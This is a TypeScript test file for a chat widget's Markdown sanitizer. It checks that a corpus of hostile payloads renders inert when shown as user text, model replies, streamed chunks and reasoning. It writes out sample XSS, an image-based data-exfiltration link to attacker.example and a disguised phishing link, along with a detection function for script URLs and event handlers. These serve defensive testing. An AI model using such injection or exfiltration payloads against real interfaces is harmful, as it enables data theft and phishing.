// Untrusted text, as a model reply and as pasted user text: the corpus in
// tests/hostile_payloads.json (shared with the browser test) must come out
// inert — no script, no handler, no fetch, no clobbering id, no way out of the
// bubble — whether it is rendered whole, in chunks, or while it streams.
import { describe, expect, it } from "vitest";
import payloads from "../../tests/hostile_payloads.json";
import { WHOLE_MAX } from "../chunks";
import { renderMarkdown } from "../markdown";
import { mountChat } from "../chat/widget";
import { renderUserMath } from "../markdown";
import { FakeModel, manualFrames, message, mountPoint } from "./fake_model";

interface Payload {
  name: string;
  text: string;
}

const CORPUS = payloads as Payload[];
const ALLOWED = new Set([
  "A", "BLOCKQUOTE", "BR", "CODE", "DEL", "EM", "H1", "H2", "H3", "H4", "H5", "H6", "HR", "LI", "OL", "P", "PRE",
  "S", "SPAN", "STRONG", "SUB", "SUP", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL",
  // the MathML KaTeX emits for math (markdown.ts allows these and nothing else of MathML)
  "math", "semantics", "annotation", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "msup", "msub", "msubsup",
  "mfrac", "msqrt", "mroot", "mover", "munder", "munderover", "mtable", "mtr", "mtd", "mstyle", "mpadded",
  "mphantom", "menclose", "merror", "mmultiscripts", "mprescripts", "none",
]);
/** What the widget itself adds around rendered Markdown (wrappers, "Copy code", "Show all", the thinking block). */
const WIDGET_OWN = new Set(["DIV", "BUTTON", "DETAILS", "SUMMARY"]);

/** Everything that could run, fetch, navigate or clobber; returns the problems found. */
function problems(root: Element, own = false): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName;
    const ours = own && WIDGET_OWN.has(tag) && (tag === "DIV" || /^nbchat-/.test(el.className));
    if (!ALLOWED.has(tag) && !ours) found.push(`element <${tag.toLowerCase()}>`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
      if (name.startsWith("on")) found.push(`${tag} ${name}`);
      if (["style", "src", "srcset", "srcdoc", "id", "name", "action", "formaction", "background", "ping", "xlink:href"].includes(name)) {
        found.push(`${tag} ${name}`);
      }
      if (/^(javascript|data|vbscript|file):/.test(value) || value.includes("javascript:")) found.push(`${tag} ${name}=${value}`);
    }
    if (tag === "A" && el.hasAttribute("href")) {
      const href = el.getAttribute("href")!;
      if (!/^(https?:|mailto:)/i.test(href)) found.push(`A href=${href}`);
      if (el.getAttribute("target") !== "_blank") found.push(`A target=${el.getAttribute("target")}`);
      if (el.getAttribute("rel") !== "noopener noreferrer") found.push(`A rel=${el.getAttribute("rel")}`);
    }
  }
  return found;
}

function rendered(markdown: string): HTMLElement {
  const host = document.createElement("div");
  host.innerHTML = renderMarkdown(markdown);
  return host;
}

describe("the hostile corpus", () => {
  it("has at least 30 payloads, each with a name", () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(30);
    for (const p of CORPUS) expect(p.name && p.text).toBeTruthy();
  });

  it.each(CORPUS.map((p) => [p.name, p.text]))("renders inert as Markdown: %s", (_name, text) => {
    const host = rendered(text);
    expect(problems(host)).toEqual([]);
    expect(host.querySelector("[src], [style], [id], [name], [srcdoc], [formaction]")).toBeNull();
  });

  it("keeps the text of what it removes readable (nothing silently disappears)", () => {
    expect(rendered("<script>window.__pwned=1</script>").textContent).toContain("<script>window.__pwned=1</script>");
    const exfil = rendered("![chart](https://attacker.example/collect?q=SECRET)");
    expect(exfil.textContent).toContain("chart (image not loaded)");
    expect(exfil.innerHTML).not.toContain("SECRET");
  });

  it("says where a link really goes", () => {
    const link = rendered("[https://bank.example](https://attacker.example/phish)").querySelector("a")!;
    expect(link.getAttribute("title")).toBe("https://attacker.example/phish");
    expect(link.getAttribute("referrerpolicy")).toBe("no-referrer");
  });
});

describe("the corpus in the chat", () => {
  const view = mountPoint();

  function mount(model: FakeModel) {
    const frames = manualFrames();
    view.keep(mountChat(model.asModel(), view.el, { schedule: frames.schedule }));
    return frames;
  }

  function contents(): Element[] {
    return [...view.el.querySelectorAll(".nbchat-content")];
  }

  it("shows every payload as user text and as a reply, inert", () => {
    const list = CORPUS.flatMap((p, i) => [message(`u${i}`, "user", p.text), message(`a${i}`, "assistant", p.text)]);
    mount(new FakeModel({ _messages: list }));
    expect(contents()).toHaveLength(2 * CORPUS.length);
    for (const content of contents()) expect(problems(content, true)).toEqual([]);
    // user text is shown exactly as typed, as text; only math in it is rendered (its TeX kept in the annotation)
    CORPUS.forEach((p, i) => {
      const user = view.el.querySelector(`[data-id="u${i}"] .nbchat-content`)!;
      if (renderUserMath(p.text) === null) {
        expect(user.textContent).toBe(p.text);
        expect(user.children).toHaveLength(0);
      } else {
        const tex = [...user.querySelectorAll("annotation")].map((a) => a.textContent).join("");
        expect(tex.length, p.name).toBeGreaterThan(0);
        expect(p.text, p.name).toContain(tex.slice(0, 10));
      }
    });
  });

  it("stays inert as a reasoning model's thoughts, streamed and committed", () => {
    const text = CORPUS.map((p) => p.text).join("\n\n");
    const model = new FakeModel({ _messages: [message("u1", "user", "go"), message("a1", "assistant", "", { status: "streaming" })], status: "generating" });
    const frames = mount(model);
    for (const p of CORPUS) {
      model.custom({ kind: "delta", id: "a1", text: "", reasoning: `${p.text}\n\n` });
      frames.run();
    }
    const body = () => view.el.querySelector(".nbchat-thinking-body")!;
    expect(problems(body(), true)).toEqual([]);
    model.update({ _messages: [message("u1", "user", "go"), message("a1", "assistant", "", { status: "done", reasoning: text })], status: "ready" });
    frames.run();
    expect(body().textContent!.length).toBeGreaterThan(100);
    expect(problems(body(), true)).toEqual([]);
  });

  it("stays inert when a long reply is rendered in chunks, and while it streams", () => {
    let text = "";
    for (let i = 0; text.length < 3 * WHOLE_MAX; i++) text += `## Part ${i}\n\n${CORPUS[i % CORPUS.length].text}\n\n`;
    const model = new FakeModel({ _messages: [message("u1", "user", "go"), message("a1", "assistant", "", { status: "streaming" })], status: "generating" });
    const frames = mount(model);
    for (let at = 0; at < text.length; at += 4999) {
      model.custom({ kind: "delta", id: "a1", text: text.slice(at, at + 4999) });
      frames.run();
      expect(problems(contents()[1], true)).toEqual([]);
    }
    model.update({ _messages: [message("u1", "user", "go"), message("a1", "assistant", text)], status: "ready" });
    for (let n = 0; n < 50 && frames.pending; n++) frames.run();
    expect(problems(contents()[1], true)).toEqual([]);
    expect(contents()[1].querySelector(".nbchat-rendering")).toBeNull();
  }, 60_000);
});
